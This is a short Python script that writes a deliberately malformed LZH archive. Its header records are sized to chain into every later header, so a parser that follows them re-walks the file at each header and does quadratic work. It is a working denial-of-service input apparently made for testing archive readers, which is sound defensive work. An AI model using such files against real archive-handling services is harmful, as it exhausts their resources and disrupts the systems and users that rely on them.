#!/usr/bin/env python3
"""Writes a hostile LZH archive of headers 27 bytes apart, each with one
extended record whose size (27) reaches past its own header into the next
one's record: a chain that runs through every later header to the last,
which ends it. A walk that follows a chain past its header re-walks the rest
of the file at every header.

Level 2 (the default): each header's size says 27. Level 1: base headers
with no name and a packed size of 0, which counts no record at all.

usage: gen_lzh_chained.py OUT --headers N [--level 1|2]
"""
import argparse
import struct

HEADER = 27          # level 2: 24 fixed bytes, one record's size field and type
RECORD_TYPE = 0x7F   # a type no reader gives a meaning


def level2_header(size, first_record):
    # size, method, packed, original, time, attribute, level, CRC-16, OS
    return struct.pack("<H5sIIIBBHB", size, b"-lh0-", 0, 1, 0, 0x20, 2, 0, ord("U")) + first_record


def level1_header(first_size):
    # method, packed, original, time, attribute, level, N, CRC-16, OS, first
    # record size; the record's type byte is the next header's size byte.
    body = struct.pack("<5sIIIBBBHBH", b"-lh0-", 0, 1, 0x21, 0x20, 1, 0, 0, ord("M"), first_size)
    return bytes([len(body), sum(body) & 0xFF]) + body


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("out")
    ap.add_argument("--headers", type=int, required=True)
    ap.add_argument("--level", type=int, choices=(1, 2), default=2)
    a = ap.parse_args()
    with open(a.out, "wb") as f:
        for _ in range(a.headers - 1):
            if a.level == 2:
                f.write(level2_header(HEADER, struct.pack("<HB", HEADER, RECORD_TYPE)))
            else:
                f.write(level1_header(HEADER))
        if a.level == 2:
            f.write(level2_header(HEADER - 1, struct.pack("<H", 0)))  # the chain's end
        else:
            f.write(level1_header(0))
        f.write(b"\0")


if __name__ == "__main__":
    main()
